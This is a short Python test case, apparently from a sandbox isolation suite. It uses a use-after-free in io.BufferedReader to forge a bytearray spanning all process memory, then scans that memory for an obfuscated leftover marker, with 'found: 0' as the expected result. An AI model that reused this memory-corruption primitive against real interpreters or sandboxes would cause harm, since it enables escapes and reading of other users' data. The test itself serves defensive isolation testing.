# what: reads the whole memory of its instance through a dangling buffer, to find that marker in what was freed
# expect: result or error or trap
# result: {"found": 0}
import hashlib, io, struct
WORD = struct.calcsize("P")
class Raw(io.RawIOBase):
    def readable(self):
        return True
    def readinto(self, view):
        self.view = view            # the buffer is freed with the reader, the view stays
        return 0
def all_memory():
    """A bytearray that begins at address 0, or None where the interpreter does not let itself be tricked."""
    size = WORD * 512
    raw = Raw()
    reader = io.BufferedReader(raw, size)
    reader.read(1)
    view = raw.view
    reader = None
    lists = []
    for _ in range(64):
        lists.append([None] * 512)
        if int.from_bytes(view[:WORD], "little") == id(None):
            break
    else:
        return None
    fake = struct.pack("7P", 1000, id(bytearray), 2 ** 31 - 1, 2 ** 31 - 1, 0, 0, 0)
    view[:WORD] = struct.pack("P", id(fake) + bytes.__basicsize__ - 1)
    for items in lists:
        if items[0] is not None:
            return items[0], view, fake, lists
    return None
def execute_tool(parameters, context):
    tricked = all_memory()
    if tricked is None or WORD != 4:
        return {"found": 0}
    memory = tricked[0]
    top = bytearray(1_000_000)
    start = int.from_bytes(memory[id(top) + 5 * WORD:id(top) + 6 * WORD], "little")
    end = max(start + len(top), id(top))
    needle = bytes(code ^ 1 for code in b"vs0fiu,m2gu,")
    found, place = 0, 1024
    while place < end:
        piece = memory[place:place + 65_600]
        at = piece.find(needle)
        while at >= 0:
            if hashlib.sha256(piece[at + 12:at + 18]).hexdigest().startswith("a1d72de13f723ac8"):
                found += 1
            at = piece.find(needle, at + 1)
        place += 65_536
    return {"found": found}
